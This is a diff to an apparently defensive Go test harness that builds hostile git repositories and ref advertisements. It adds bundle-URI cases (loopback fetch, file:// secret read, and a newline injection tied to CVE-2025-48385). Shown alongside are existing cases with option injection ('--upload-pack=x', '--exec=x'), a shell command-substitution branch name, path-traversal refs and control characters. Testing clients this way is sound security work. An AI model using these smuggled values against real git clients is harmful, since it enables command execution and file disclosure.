@@ -21,7 +21,21 @@ func refCases() []Case {
 			r.write("HEAD", "ref: refs/heads/"+name+"\n")
 		}
 	}
+	// bundle is a server that sends clients to another address for a part of the objects.
+	bundle := func(uri func(Bait) string) func(*repo, Bait) {
+		return func(r *repo, b Bait) {
+			r.files(entry{mode: file, name: "a", content: "a\n"})
+			r.write("config", "[core]\n\trepositoryformatversion = 0\n\tbare = true\n[uploadpack]\n\tadvertiseBundleURIs = true\n"+
+				"[bundle]\n\tversion = 1\n\tmode = all\n[bundle \"evil\"]\n\turi = "+value(uri(b))+"\n")
+		}
+	}
+	const bundled = `git -c transfer.bundleURI=true clone -q "$REPO" w`
 	cases := []Case{
+		{Name: "bundle-loopback", Abuses: "the server has its clients fetch a bundle from loopback", Effect: Asks, Control: bundled, build: bundle(func(b Bait) string { return b.URL + "/bait" })},
+		{Name: "bundle-file", Abuses: "the server has its clients read a bundle from their disk", build: bundle(func(b Bait) string { return "file://" + b.Outside + "/secret" })},
+		{Name: "bundle-newline", Abuses: "a bundle's address with a newline tells the transport where to write", CVE: "CVE-2025-48385", build: bundle(func(b Bait) string {
+			return b.URL + "/bait\nget " + b.URL + "/bait " + b.Outside + "/new"
+		})},
 		{Name: "head-option", Abuses: "the default branch is an option", CVE: "CVE-2026-33748", build: branch("--upload-pack=x")},
 		{Name: "head-shell", Abuses: "the default branch is a command for a shell", Effect: Runs,
 			Control: plain + `; sh -c "git -C w branch --list $(git -C w symbolic-ref --short HEAD)"`, build: branch("$(touch${IFS}CANARY)")},
@@ -94,7 +108,7 @@ func Adverts(id string) []Advert {
 		{Name: "head-unborn", Abuses: "HEAD is unborn, and an option", Refs: slices.Values([]gitserver.Ref{{ID: "unborn", Name: "HEAD", Target: "refs/heads/--x"}, main})},
 		{Name: "ref-dotdot", Abuses: "names that lead out of refs", Refs: names("refs/heads/../../x", "refs/../HEAD", "../../x", "/etc/x", "refs/heads/./x")},
 		{Name: "ref-control", Abuses: "names with control characters", Refs: names("refs/heads/a\x01b", "refs/heads/\x1b[2J", "refs/heads/a\rb", "refs/heads/a\x7f")},
-		{Name: "ref-newline", Abuses: "a name that is two lines of packed-refs", Refs: names("refs/heads/a\n" + nowhere + " refs/heads/b")},
+		{Name: "ref-newline", Abuses: "a name of two lines, for who writes it into a file", Refs: names("refs/heads/a\nrefs/heads/b")},
 		{Name: "ref-option", Abuses: "names that are options", Refs: names("refs/heads/--upload-pack=x", "refs/tags/-x", "--exec=x")},
 		{Name: "ref-lock", Abuses: "a name that is another ref's lock", Refs: names("refs/heads/main.lock")},
 		{Name: "ref-conflict", Abuses: "a name that is a directory of another", Refs: names("refs/heads/main/x", "refs/heads/a", "refs/heads/a/b")},
